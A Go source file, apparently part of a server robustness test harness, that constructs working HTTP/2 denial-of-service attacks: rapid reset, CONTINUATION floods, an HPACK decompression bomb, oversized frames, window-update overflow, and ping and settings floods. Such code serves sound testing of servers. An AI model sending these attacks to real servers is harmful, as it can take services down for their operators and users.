package hostile

import (
	"bytes"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// HTTP2 returns attacks on HTTP/2, each with so many frames of its kind: a few hundred are enough
// for a server to notice, few enough for an attacker to send them often.
func HTTP2(path string, frames int) []Attack {
	get := Fields(":method", "GET", ":scheme", "https", ":authority", "x", ":path", path)
	post := Fields(":method", "POST", ":scheme", "https", ":authority", "x", ":path", path)
	return []Attack{
		h2("no preface", "no preface at all, but a long one\r\n\r\n", nil),
		h2("no settings", http2.ClientPreface, func(*http2.Framer) {}).waiting(),
		h2("half a header block", "", func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: get[:3]})
		}).waiting(),
		h2("rapid reset", "", func(f *http2.Framer) {
			for i := range frames {
				id := uint32(2*i + 1)
				if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: get, EndHeaders: true, EndStream: true}) != nil ||
					f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
					return
				}
			}
		}).waiting(),
		h2("a flood of CONTINUATION", "", func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: get})
			more := Fields("x", strings.Repeat("y", 1<<10))
			for range max(frames, 256) {
				if f.WriteContinuation(1, false, more) != nil {
					return
				}
			}
		}),
		h2("a flood of empty CONTINUATION", "", func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: get})
			for range frames {
				if f.WriteContinuation(1, false, nil) != nil {
					return
				}
			}
		}).waiting(),
		h2("a header list that is too long", "", func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: append(bytes.Clone(get), bigFields()...), EndHeaders: true, EndStream: true})
		}).waiting(),
		h2("an oversized frame", "", func(f *http2.Framer) {
			_ = f.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<20))
			_ = f.WriteRawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, make([]byte, 2<<20))
		}),
		h2("a window past its end", "", func(f *http2.Framer) {
			_ = f.WriteWindowUpdate(0, 1<<31-1)
			_ = f.WriteWindowUpdate(0, 1<<31-1)
		}),
		h2("settings that are wrong", "", func(f *http2.Framer) {
			_ = f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1})
		}),
		h2("data for nobody", "", func(f *http2.Framer) { _ = f.WriteRawFrame(http2.FrameData, 0, 0, []byte("x")) }),
		h2("bodies that never end", "", func(f *http2.Framer) {
			for i := range min(frames, 200) {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: post, EndHeaders: true})
			}
		}).waiting(),
		h2("a flood of pings", "", func(f *http2.Framer) {
			for range frames {
				if f.WritePing(false, [8]byte{}) != nil {
					return
				}
			}
		}).waiting(),
		h2("a flood of settings", "", func(f *http2.Framer) {
			for range frames {
				if f.WriteSettings() != nil {
					return
				}
			}
		}).waiting(),
	}
}

// Fields returns a header block that does not depend on earlier ones.
func Fields(pairs ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSize(0)
	for i := 0; i < len(pairs); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1], Sensitive: true})
	}
	return b.Bytes()
}

// bigFields returns a kilobyte on the wire and a megabyte when read: references to one large field
// (an HPACK bomb).
func bigFields() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for range 1000 {
		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3000)})
	}
	return b.Bytes()
}

// h2 returns an attack that begins well, unless there is another start.
func h2(name, start string, do func(*http2.Framer)) Attack {
	return Attack{Name: name, Secure: true, ALPN: "h2", Do: func(c net.Conn) {
		if start != "" {
			say(start)(c)
			return
		}
		say(http2.ClientPreface)(c)
		var frames bytes.Buffer
		f := http2.NewFramer(&frames, nil)
		f.AllowIllegalWrites = true
		_ = f.WriteSettings()
		do(f)
		_, _ = c.Write(frames.Bytes())
	}}
}

func (a Attack) waiting() Attack {
	a.Waits = true
	return a
}
